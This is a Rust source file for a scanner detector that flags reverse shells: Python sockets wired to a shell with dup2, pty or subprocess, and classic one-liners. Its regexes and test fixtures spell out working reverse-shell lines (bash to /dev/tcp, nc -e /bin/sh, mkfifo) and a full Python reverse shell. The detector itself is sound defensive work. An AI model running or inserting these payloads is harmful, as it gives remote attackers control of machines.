//! `network.reverse-shell`: a socket connected out and wired to a shell —
//! `os.dup2(s.fileno(), …)` / `pty.spawn` / a subprocess of `sh`/`bash`/`cmd.exe`
//! with the socket as stdin — or a classic one-liner in a string (`bash -i >&
//! /dev/tcp/…`, `nc -e /bin/sh`, `mkfifo /tmp/f`).
//!
//! Python: needs both a socket connect and a shell wiring in code in the same file; a `dup2`
//! is a wiring when the descriptor it copies is a socket's (the name connects or is made by a
//! socket call) or the file starts a shell, not when it captures output in a temporary file.
//! Tests are not skipped (a reverse shell has no business in tests either) but
//! capped by place: tests/docs/CI medium, shipped scripts high, data files such as
//! guardrail keyword lists low.

use super::context;
use super::pysrc::{self, Kind, MAX_HITS_PER_FILE};
use crate::model::{Category, Severity};
use crate::scan::detector::{Detector, DetectorMeta, Hit, Hits, Interest, TextFile};
use regex::Regex;
use std::sync::LazyLock;

pub(crate) static META: DetectorMeta = DetectorMeta {
    id: "network.reverse-shell",
    revision: 2,
    title: "Opens a reverse shell.",
    category: Category::Network,
    severity: Severity::Critical,
    description: "A shell wired to an outbound socket hands the machine to whoever listens at the other end.",
};

static CONNECT: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\.connect\s*\(|socket\.create_connection\s*\(").expect("connect"));
static WIRE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?-u:\b)(?:os\.)?dup2\s*\(\s*\w+\.fileno\(\)\s*,\s*(?:[012]|sys\.std(?:in|out|err)\.fileno\(\))\s*\)|(?-u:\b)pty\.spawn\s*\(|subprocess\.(?:call|Popen|run)\s*\(\s*\[?\s*['"](?:/bin/)?(?:sh|bash|zsh|cmd(?:\.exe)?|powershell(?:\.exe)?)['"][^)]*std(?:in|out)\s*=\s*\w+"#).expect("wire")
});
/// Whether the member may hold a [`ONE_LINER`] match: its lowercased copy
/// ([`TextFile::ascii_lowercase`], shared with the other gates) holds a word every match contains
/// (case-insensitively): `/dev/tcp` or `/dev/udp` (the `/dev/tcp` forms; not every `/dev/null`),
/// `mkfifo`, or `-e` followed by a character `\s+` can take (`nc -e sh`, `nc -e cmd`: the Unicode
/// whitespace [`SPACES`]; a bare `-e` is in every `non-empty` and `--exclude`). Three `memmem`
/// passes and a look after each `-e`, instead of an automaton of 27 words that visited every byte.
/// A member without the copy (it holds `ſ` or the Kelvin sign) may always hold one.
fn may_hold_one_liner(file: &TextFile<'_>) -> bool {
    let Some(lower) = file.ascii_lowercase() else {
        return true;
    };
    let b = lower.as_bytes();
    let holds = |w: &[u8]| memchr::memmem::find(b, w).is_some();
    holds(b"/dev/tcp")
        || holds(b"/dev/udp")
        || holds(b"mkfifo")
        || memchr::memmem::find_iter(b, b"-e")
            .any(|i| lower[i + 2..].chars().next().is_some_and(|c| SPACES.contains(&c)))
}
/// The characters `\s` matches (Unicode `White_Space`; tested against the regex crate).
const SPACES: [char; 25] = [
    '\t', '\n', '\x0b', '\x0c', '\r', ' ', '\u{85}', '\u{a0}', '\u{1680}', '\u{2000}', '\u{2001}', '\u{2002}',
    '\u{2003}', '\u{2004}', '\u{2005}', '\u{2006}', '\u{2007}', '\u{2008}', '\u{2009}', '\u{200a}', '\u{2028}',
    '\u{2029}', '\u{202f}', '\u{205f}', '\u{3000}',
];
static ONE_LINER: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)(?:(?-u:\b)(?:ba)?sh\s+-i\s*>&\s*/dev/(?:tcp|udp)/|/dev/tcp/[\w.-]+/\d+|(?-u:\b)nc(?:at)?(?:\.exe)?\s+(?:[\w.-]+\s+\d+\s+)?-e\s+(?:/bin/)?(?:ba)?sh|(?-u:\b)nc(?:at)?\s+-e\s+cmd|mkfifo\s+/tmp/\w+\s*;\s*(?:cat|nc)|0<&\d+;\s*exec\s+\d+<>/dev/tcp)").expect("one-liner")
});

pub(crate) struct ReverseShell;

impl Detector for ReverseShell {
    fn meta(&self) -> &'static DetectorMeta {
        &META
    }
    fn interest(&self) -> Interest {
        Interest::Literals(&[
            "dup2",
            "pty.spawn",
            "/dev/tcp",
            "/dev/udp",
            "nc -e",
            "ncat",
            "-e /bin/",
            "mkfifo",
            "stdin=",
        ])
    }
    fn scan_text(&self, file: &TextFile<'_>, hits: &mut Hits) {
        // Capped by place: tests/docs/CI medium, scripts high, data files (keyword lists) low.
        let sev = Some(context::cap(file, Severity::Critical));
        let src = file.source();
        let mut n = 0;
        let one_liners = may_hold_one_liner(file).then(|| ONE_LINER.find_iter(file.text));
        for m in one_liners.into_iter().flatten() {
            if n >= MAX_HITS_PER_FILE {
                return;
            }
            if src.python && src.kind_at(m.start()) != Kind::Str {
                continue;
            }
            n += 1;
            hits.push(&META, Hit { severity: sev, evidence: pysrc::evidence(file, m.start(), m.as_str().trim()) });
        }
        if !src.python || !CONNECT.find_iter(file.text).any(|m| src.is_code(m.start())) {
            return;
        }
        for m in WIRE.find_iter(file.text) {
            if n >= MAX_HITS_PER_FILE {
                return;
            }
            if !src.is_code(m.start()) {
                continue;
            }
            if m.as_str().contains("dup2") && !dup2_wires_a_socket(file.text, m.as_str()) {
                continue;
            }
            n += 1;
            let ind = m.as_str().split('(').next().unwrap_or("").trim();
            hits.push(&META, Hit { severity: sev, evidence: pysrc::evidence(file, m.start(), ind) });
        }
    }
}

/// The name whose descriptor a `dup2(<name>.fileno(), …)` copies.
static DUP2_NAME: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"dup2\s*\(\s*(\w+)\.fileno").expect("dup2 name"));
/// A shell started by the file: `/bin/sh`, `bash -i`, `cmd.exe`, `powershell`, `"sh"`.
static SHELL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?i)/bin/(?:ba|z|da)?sh(?-u:\b)|(?-u:\b)(?:ba|z)?sh\s+-i(?-u:\b)|(?-u:\b)cmd(?:\.exe)?['"]|powershell|['"](?:ba|z)?sh['"]"#).expect("shell")
});

/// Whether a `dup2(<name>.fileno(), 0|1|2)` wires a socket to the standard streams: `<name>`
/// connects or is made by a socket call (`socket.socket`, `create_connection`, `accept()`,
/// `makefile`, `wrap_socket`) in the file, or the file also starts a shell. A temporary file or
/// `/dev/null` copied onto stdout/stderr (capturing a child's output, a daemon's logs) is no
/// reverse shell, even in a file that connects somewhere else.
fn dup2_wires_a_socket(text: &str, wire: &str) -> bool {
    let Some(name) = DUP2_NAME.captures(wire).map(|c| c.get(1).expect("name").as_str()) else {
        return true;
    };
    if SHELL.is_match(text) {
        return true;
    }
    let made = Regex::new(&format!(
        r"(?-u:\b){name}\s*\.\s*connect(?:_ex)?\s*\(|(?-u:\b){name}\s*(?:,\s*\w+\s*)?=\s*[^\n]*(?:socket|create_connection|accept\s*\(|makefile|wrap_socket)"
    ));
    made.map_or(true, |re| re.is_match(text))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::FileRole::*;
    use crate::scan::detectors::testutil::table;
    use Severity::*;

    const CLASSIC: &str = "import socket,os,pty\ns=socket.socket()\ns.connect((H,4444))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\npty.spawn('/bin/sh')\n";

    #[test]
    fn spaces_are_what_the_regex_calls_whitespace() {
        let space = Regex::new(r"^\s$").expect("space");
        let all: Vec<char> =
            (0..=0x10ffff_u32).filter_map(char::from_u32).filter(|c| space.is_match(&c.to_string())).collect();
        assert_eq!(all, SPACES);
    }

    #[test]
    fn one_liner_gate_never_hides_a_match() {
        let cases = [
            ("bash to /dev/tcp", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", true),
            ("nc -e, upper case", "NC 10.0.0.1 4444 -E /BIN/SH", true),
            ("ncat -e with a tab", "ncat -e\tcmd", true),
            ("nc -e across a line break", "nc 10.0.0.1 4444 -e\n/bin/sh", true),
            ("nc -e before a form feed", "nc -e\x0csh", true),
            ("mkfifo", "mkfifo /tmp/f; cat /tmp/f", true),
            ("exec to /dev/tcp", "0<&196;exec 196<>/dev/tcp/h/80", true),
            ("a hyphen before an e is no one-liner", "non-empty --exclude re-enter", false),
            ("nc -e before a no-break space", "é nc -e\u{a0}sh", true),
            ("nc -e before an ideographic space", "nc -e\u{3000}cmd", true),
            ("non-ASCII text without a word", "é non-empty\u{a0}x", false),
            ("/dev/null is no one-liner", "subprocess.run(cmd, stdout=open('/dev/null'))", false),
            ("/dev/udp", "sh -i >& /DEV/UDP/10.0.0.1/53 0>&1", true),
            ("a Kelvin sign: no lowercased copy", "\u{212a} mkfifo /tmp/f; nc h 1 < /tmp/f", true),
        ];
        for (case, text, matches) in cases {
            assert_eq!(ONE_LINER.is_match(text), matches, "{case}: the regex");
            let file = TextFile::new("pkg/a.py", crate::model::FileRole::Runtime, true, text);
            assert_eq!(may_hold_one_liner(&file), matches, "{case}: the gate");
        }
        // Random texts of the one-liners' pieces: the gate never says no where the regex matches.
        let pieces = [
            "bash",
            "sh",
            " -i",
            " -I",
            " >& ",
            "/dev/",
            "/DEV/",
            "tcp/",
            "udp/",
            "null",
            "10.0.0.1",
            "/4444",
            "nc ",
            "NCAT ",
            "-e",
            "-E",
            " ",
            "\t",
            "\u{a0}",
            "\u{3000}",
            "/bin/sh",
            "cmd",
            "mkfifo ",
            "mKfifo ",
            "/tmp/f",
            "; ",
            "cat",
            "0<&196;",
            "exec ",
            "196<>",
            "é",
            "\n",
            "non-empty",
            "bash -i >& /dev/tcp/10.0.0.1/4444",
            "nc 10.0.0.1 4444 -e /bin/sh",
            "mkfifo /tmp/f; cat",
            "NCAT -E CMD",
        ];
        let (mut matched, mut gated) = (0, 0);
        for text in super::super::pysrc::random_texts(&pieces, 20, 0xbb67_ae85_84ca_a73bu64, 4000) {
            let file = TextFile::new("pkg/a.py", crate::model::FileRole::Runtime, true, &text);
            let gate = may_hold_one_liner(&file);
            let hit = ONE_LINER.is_match(&text);
            assert!(gate || !hit, "{text:?}: the gate hides a match");
            matched += usize::from(hit);
            gated += usize::from(!gate);
        }
        assert!(matched > 300 && gated > 300, "the random texts match ({matched}) and are gated out ({gated})");
    }

    #[test]
    fn cases() {
        table(
            &ReverseShell,
            META.id,
            &[
                ("classic python", "setup.py", InstallTime, CLASSIC, Some((4, "os.dup2", Critical))),
                (
                    "subprocess wired",
                    "pkg/a.py",
                    Runtime,
                    "s.connect((h, p))\nsubprocess.call(['/bin/sh', '-i'], stdin=s.fileno())\n",
                    Some((2, "subprocess.call", Critical)),
                ),
                (
                    "bash one-liner",
                    "pkg/a.py",
                    Runtime,
                    "os.system(\"bash -i >& /dev/tcp/10.0.0.1/8080 0>&1\")\n",
                    Some((1, "bash -i >& /dev/tcp/", Critical)),
                ),
                (
                    "nc in shell script",
                    "pkg/x.sh",
                    Runtime,
                    "nc 10.0.0.1 4444 -e /bin/sh\n",
                    Some((1, "nc 10.0.0.1 4444 -e /bin/sh", High)),
                ),
                ("in tests lowered", "pkg/tests/t.py", Runtime, CLASSIC, Some((4, "os.dup2", Medium))),
                (
                    "guardrail keyword list in yaml",
                    "pkg/content_filter_data/categories/prompt_injection_malicious_code.yaml",
                    Other,
                    "keywords:\n  - keyword: \"nc -e /bin/sh\"\n",
                    Some((2, "nc -e /bin/sh", Low)),
                ),
                (
                    "nc -e in setup.py stays critical",
                    "setup.py",
                    InstallTime,
                    "os.system('nc example.org 4444 -e /bin/sh')\n",
                    Some((1, "nc example.org 4444 -e /bin/sh", Critical)),
                ),
                (
                    "pty without socket (terminal tool)",
                    "pkg/term.py",
                    Runtime,
                    "import pty\npty.spawn('/bin/bash')\n",
                    None,
                ),
                ("dup2 for logging", "pkg/d.py", Runtime, "os.dup2(devnull.fileno(), 1)\n", None),
                ("one-liner in comment", "pkg/a.py", Runtime, "# bash -i >& /dev/tcp/h/1\nx = 1\n", None),
                (
                    "dup2 onto other fds with a socket",
                    "pkg/sel.py",
                    Runtime,
                    "s.connect(a)\nos.dup2(rd.fileno(), r)\n",
                    None,
                ),
                (
                    "std streams captured in temporary files, in a module with a client's connect",
                    "pkg/utils.py",
                    Runtime,
                    "self._sio.connect(addr)\nstdout = tempfile.SpooledTemporaryFile(mode='w+')\nstderr = tempfile.SpooledTemporaryFile(mode='w+')\nos.dup2(stdout.fileno(), 1)\nos.dup2(stderr.fileno(), 2)\n",
                    None,
                ),
                (
                    "a log file onto stdout of a daemon that connects",
                    "pkg/daemon.py",
                    Runtime,
                    "conn.connect(db)\nlog = open(path, 'a')\nos.dup2(log.fileno(), sys.stdout.fileno())\n",
                    None,
                ),
                (
                    "socket from create_connection wired to stdin",
                    "pkg/x.py",
                    Runtime,
                    "c = socket.create_connection((H, 4444))\nos.dup2(c.fileno(), 0)\nos.dup2(c.fileno(), 1)\n",
                    Some((2, "os.dup2", Critical)),
                ),
                (
                    "an accepted connection wired to the streams (bind shell)",
                    "setup.py",
                    InstallTime,
                    "srv.bind(a)\nconn, addr = srv.accept()\nx.connect(b)\nos.dup2(conn.fileno(), 0)\n",
                    Some((4, "os.dup2", Critical)),
                ),
                (
                    "a name from a helper, but the file starts a shell",
                    "pkg/x.py",
                    Runtime,
                    "s = get_channel()\ns.connect((H, P))\nf = s\nos.dup2(f.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])\n",
                    Some((4, "os.dup2", Critical)),
                ),
            ],
        );
    }
}
